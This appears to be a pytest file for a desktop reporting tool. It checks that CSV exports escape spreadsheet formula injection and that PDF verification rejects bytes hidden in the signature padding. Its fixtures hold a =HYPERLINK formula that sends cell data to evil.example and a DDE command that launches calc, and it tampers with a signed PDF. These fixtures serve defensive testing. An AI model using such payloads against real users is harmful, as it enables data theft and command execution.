"""Formula cells in every CSV the application writes, and bytes hidden in the padding of a
signed scorecard's /Contents."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from aces_desktop.ops import publication
from aces_desktop.reports import pki
from aces_desktop.reports.spreadsheets import formula_safe
from aces_desktop.reports.verify import verify_pdf
from aces_desktop.store.workspace import Workspace
from tests.conftest import PASSPHRASE
from tests.helpers import add, run_aces
from tests.reports.pdftools import signed_sample

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
DDE = "+cmd|' /C calc'!A0"
ENV = {"ACES_PASSPHRASE": PASSPHRASE}


@pytest.fixture(scope="module")
def ws_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("formulas") / "ws"
    ws = Workspace.create(path, PASSPHRASE, role="coordinator", name="Formulas")
    add(ws, "site", name=HYPERLINK, country="CN", disclosure="full")
    add(ws, "site", name=DDE, country="CN", disclosure="full")
    company = add(ws, "company", name="@SUM(1+1)", kind="brand", country="GB")
    publication.mark(ws, company, True)  # the register shows it once it is ready to publish
    ws.close()
    return path


def cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def assert_no_formula(data: bytes) -> None:
    found = cells(data)
    for name in (HYPERLINK, DDE):
        assert name not in found
        assert "'" + name in found
    for cell in found:
        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell


def test_register_csv_files_hold_no_formula_and_stay_byte_identical(
    ws_path: Path, tmp_path: Path
) -> None:
    outputs = []
    for folder in ("a", "b"):
        out = tmp_path / folder
        run = run_aces(
            "--workspace", str(ws_path), "register", "export", "--out", str(out),
            "--date", "2026-11-25", env=ENV,
        )  # fmt: skip
        assert run.returncode == 0, run.stderr
        outputs.append({p.name: p.read_bytes() for p in sorted(out.iterdir())})
    assert outputs[0] == outputs[1]
    assert_no_formula(outputs[0]["sites.csv"])
    assert "'@SUM(1+1)" in cells(outputs[0]["companies.csv"])
    assert HYPERLINK in outputs[0]["register.json"].decode("utf-8").replace('\\"', '"')


def test_record_export_csv_holds_no_formula(ws_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "sites.csv"
    run = run_aces(
        "--workspace", str(ws_path), "export", "--type", "sites", "--out", str(out), env=ENV
    )
    assert run.returncode == 0, run.stderr
    assert_no_formula(out.read_bytes())


def test_score_table_csv_holds_no_formula(ws_path: Path, tmp_path: Path) -> None:
    out = tmp_path / "scores.csv"
    run = run_aces(
        "--workspace", str(ws_path), "score", "--no-save", "--as-of", "2026-11-25",
        "--csv", str(out), env=ENV,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert_no_formula(out.read_bytes())


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("  =1+1", "'  =1+1"),
        ("-2+3", "'-2+3"),
        ("\tx", "'\tx"),
        ("\nx", "'\nx"),
        ("Hengrun = good", "Hengrun = good"),
        ("喀什", "喀什"),
    ],
)
def test_formula_safe(text: str, written: str) -> None:
    assert formula_safe(text) == written


# --- signature padding ---------------------------------------------------------------------


@pytest.fixture(scope="module")
def signed(tmp_path_factory: pytest.TempPathFactory) -> tuple[bytes, Path]:
    ca_key, ca_cert = pki.make_ca("Hostile organisation")
    key, cert = pki.make_signing_certificate(ca_key, ca_cert, "Dana Coordinator")
    pdf = signed_sample(pki.SigningIdentity("Dana Coordinator", key, cert, ca_cert))
    ca = tmp_path_factory.mktemp("ca") / "ca.pem"
    ca.write_text(pki.cert_pem(ca_cert), encoding="ascii")
    return pdf, ca


def fill_padding(pdf: bytes, count: int) -> bytes:
    """Write ``count`` arbitrary bytes into the end of the zero padding of /Contents."""
    match = re.search(rb"/Contents\s*<([0-9a-fA-F]+)>", pdf)
    assert match is not None
    hex_digits = match.group(1)
    padding = len(hex_digits) - len(hex_digits.rstrip(b"0"))
    assert padding >= 2 * count + 2, "the signature leaves less padding than the test needs"
    start = match.end(1) - 2 * count
    arbitrary = (bytes(range(1, 256)) * 4)[:count]  # no zero byte among them
    tampered = pdf[:start] + arbitrary.hex().encode() + pdf[match.end(1) :]
    assert len(tampered) == len(pdf)
    return tampered


def test_untouched_scorecard_verifies(signed: tuple[bytes, Path], tmp_path: Path) -> None:
    pdf, ca = signed
    path = tmp_path / "card.pdf"
    path.write_bytes(pdf)
    run = run_aces("pdf", "verify", str(path), "--trust", str(ca))
    assert run.returncode == 0, run.stdout + run.stderr
    assert "VALID" in run.stdout


@pytest.mark.parametrize("count", [1, 200])
def test_bytes_in_the_signature_padding_are_refused(
    signed: tuple[bytes, Path], tmp_path: Path, count: int
) -> None:
    pdf, ca = signed
    path = tmp_path / "tampered.pdf"
    path.write_bytes(fill_padding(pdf, count))
    run = run_aces("pdf", "verify", str(path), "--trust", str(ca))
    assert run.returncode == 1
    assert "Traceback" not in run.stderr + run.stdout
    output = run.stdout + run.stderr
    assert "NOT VALID" in output
    assert f"{count} non-zero byte(s) after the DER signature" in output


def test_padding_verdict_in_process(signed: tuple[bytes, Path]) -> None:
    pdf, ca = signed
    ca_cert = pki.load_certificates(ca.read_bytes(), "ca")
    verdict = verify_pdf(fill_padding(pdf, 300), ca_cert, label="card.pdf", trust_label="ca")
    assert not verdict.ok
    checks = {c.name: c for c in verdict.checks}
    assert not checks["signature"].ok and "padding" in checks["signature"].detail
    assert not checks["certificate"].ok
